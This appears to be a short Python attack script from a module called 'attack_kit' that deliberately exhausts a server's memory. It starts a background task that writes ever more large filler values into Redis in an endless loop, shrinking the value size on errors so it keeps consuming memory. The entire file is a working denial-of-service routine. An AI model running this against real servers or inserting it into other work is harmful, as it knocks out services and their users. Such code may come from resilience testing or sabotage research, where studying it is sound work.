"""Uses all the memory that the server has."""

from attack_kit import beside, is_worker, ran, redis


def fill():
    client = redis()
    ran("beside")
    number = size = 0
    size = 8_000_000
    while True:
        number += 1
        try:
            client.set(f"filler-{number}", b"x" * size)
        except Exception:
            size = max(1, size // 2)


if not is_worker():
    beside(fill)
